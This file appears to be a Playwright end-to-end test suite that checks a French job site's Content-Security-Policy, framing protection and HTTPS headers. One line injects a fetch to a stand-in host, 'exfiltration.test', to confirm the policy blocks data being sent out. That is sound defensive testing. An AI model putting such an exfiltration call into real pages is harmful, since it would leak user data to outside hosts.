"""The site under its Content-Security-Policy in a real browser: pages still work, nothing is
refused, GraphiQL's own policy lets its page run, and another site cannot frame the site."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
from playwright.sync_api import BrowserContext, ConsoleMessage, Page, expect

from tests.documents.samples import SAMPLES
from tests.e2e.registration import submit_registration
from tests.waiting import page_wait_until

# Runs in every document before its own scripts, so no violation slips by unseen.
_REPORT_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", (event) => {
  window.reportCspViolation(
    `${event.violatedDirective} refused ${event.blockedURI || "inline"} on ${location.href}`
  );
});
"""


class _Watched:
    """A browser context whose CSP violations (events and console reports) are collected."""

    def __init__(self, browser: Any) -> None:
        self.violations: list[str] = []
        # bypass_csp stays False: the browser enforces the policy the site sends.
        self.context: BrowserContext = browser.new_context(
            locale="fr-FR", viewport={"width": 1280, "height": 900}
        )
        self.context.expose_binding(
            "reportCspViolation", lambda source, text: self.violations.append(str(text))
        )
        self.context.add_init_script(_REPORT_VIOLATIONS)

    def page(self) -> Page:
        page = self.context.new_page()
        page.on("console", self._console)
        return page

    def _console(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.violations.append(message.text)


def test_the_site_works_under_its_policy(site: str, browser: Any, artifacts: Path) -> None:
    watched = _Watched(browser)
    page = watched.page()
    page.goto(site + "/")
    expect(page.get_by_text("Apprentissage (24)")).to_be_visible()
    expect(page.get_by_text("Dernières offres publiées")).to_be_visible()
    # socket.io reached its WebSocket (connect-src), not only the long-polling fallback.
    page.wait_for_function("window.socket?.io?.engine?.transport?.name === 'websocket'")
    page.screenshot(path=artifacts / "csp-home.png", full_page=True)

    # A+ goes to the server over the WebSocket and comes back as ui.run_javascript (eval).
    before = float(page.evaluate("parseFloat(getComputedStyle(document.body).fontSize)"))
    page.get_by_role("button", name="Agrandir la taille du texte").click()
    page.wait_for_function(f"parseFloat(getComputedStyle(document.body).fontSize) > {before}")
    page.get_by_role("button", name="Réduire la taille du texte").click()
    page.wait_for_function(f"parseFloat(getComputedStyle(document.body).fontSize) == {before}")

    page.get_by_text("Apprentissage (24)").click()
    page.get_by_label("Mots-clés").fill("marketing")
    page.get_by_role("button", name="Lancer ma recherche").click()
    page.wait_for_url(re.compile(r"/recherche\?type=apprentissage&q=marketing"))
    expect(page.get_by_text("1 offre correspond à votre recherche")).to_be_visible()
    page.screenshot(path=artifacts / "csp-results.png", full_page=True)

    page.get_by_role("link", name="Apprenti Marketing et expérience client/usager (F/H)").click()
    page.wait_for_url(re.compile(r"/offres/A-2021-0192$"))
    expect(page.get_by_text("Numéro d'offre :")).to_be_visible()

    page.get_by_role("link", name="Accès candidat").click()
    page.wait_for_url(re.compile(r"/connexion"))
    page.get_by_label("Identifiant ou adresse e-mail").fill("personne")
    page.get_by_label("Mot de passe", exact=True).fill("pas-le-bon-mot-de-passe")
    page.get_by_role("button", name="Se connecter").click()
    # The refusal comes back from the server and is shown: the page is alive.
    expect(page.get_by_label("Mot de passe", exact=True)).to_have_value("")

    assert watched.violations == []
    # The watch does see a refusal: a script sending data to another host is stopped.
    page.evaluate("fetch('http://exfiltration.test/').catch(() => null)")
    page_wait_until(  # the report reaches Python through an exposed binding
        page,
        "the connect-src violation reported",
        lambda: any("connect-src" in v and "exfiltration.test" in v for v in watched.violations),
    )
    watched.context.close()


def test_a_picture_sent_as_a_cv_under_the_policy(site: str, browser: Any) -> None:
    # Quasar's uploader previews a picked image through a blob: address (img-src blob:).
    watched = _Watched(browser)
    page = watched.page()
    page.goto(site + "/inscription")
    submit_registration(
        page,
        civility="Monsieur",
        last_name="Politique",
        first_name="Sécurité",
        email="csp.verification@exemple.fr",
        username="csp.verification",
    )
    cv = page.get_by_role("group", name="CV", exact=True)
    cv.locator("input[type=file]").set_input_files(
        {"name": "cv.png", "mimeType": "image/png", "buffer": SAMPLES["png"]}
    )
    expect(cv).to_contain_text("« cv.png » a été ajouté.")
    assert watched.violations == []
    watched.context.close()


def test_graphiql_page_is_allowed_what_it_loads(site: str, browser: Any) -> None:
    watched = _Watched(browser)
    # The CDN is out of reach from the test machine; the requests still have to get past
    # the policy first, which is what is checked here.
    watched.context.route("https://unpkg.com/**", lambda route: route.abort())
    page = watched.page()
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(site + "/graphql")
    page.wait_for_load_state("load")
    assert any("graphiql" in url and url.endswith(".js") for url in requested)
    assert watched.violations == []
    watched.context.close()


@contextmanager
def _other_site(site: str) -> Iterator[str]:
    """A page on another origin (a real local server: Chrome refuses public-to-local framing on
    its own, which would hide what the site's headers do) framing the site and, for contrast,
    a page of its own."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = (
                "<p>Page du même site</p>"
                if self.path == "/propre"
                else f'<iframe id="victim" src="{site}/"></iframe>'
                '<iframe id="own" src="/propre"></iframe>'
            ).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        # localhost, not 127.0.0.1: another origin, and another site, than the one framed.
        yield f"http://localhost:{server.server_address[1]}/"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def test_another_site_cannot_frame_the_site(site: str, browser: Any) -> None:
    context: BrowserContext = browser.new_context()
    messages: list[str] = []
    page = context.new_page()
    page.on("console", lambda message: messages.append(message.text))
    with _other_site(site) as other:
        page.goto(other)
        # The other site's own frame loads: frames work there, only the site refuses.
        expect(page.frame_locator("#own").get_by_text("Page du même site")).to_be_visible()
        victim = page.locator("#victim").element_handle().content_frame()
        assert victim is not None
        page_wait_until(  # the browser swaps in its error page once the headers arrive
            page, "the refused frame's error page", lambda: victim.url.startswith("chrome-error://")
        )
        assert page.frame_locator("#victim").get_by_text("Dernières offres").count() == 0
    assert any("frame-ancestors 'none'" in text for text in messages), messages
    context.close()


def test_real_uvicorn_behind_an_https_proxy(site: str) -> None:
    # The site runs under uvicorn, which trusts X-Forwarded-Proto from 127.0.0.1 (the same
    # handling as --proxy-headers in the Procfile): a proxy that spoke https to the browser.
    response = httpx.get(site + "/", headers={"X-Forwarded-Proto": "https"})
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["strict-transport-security"] == "max-age=31536000"
    assert "; Secure" in response.headers["set-cookie"]
    assert "strict-transport-security" not in httpx.get(site + "/health").headers
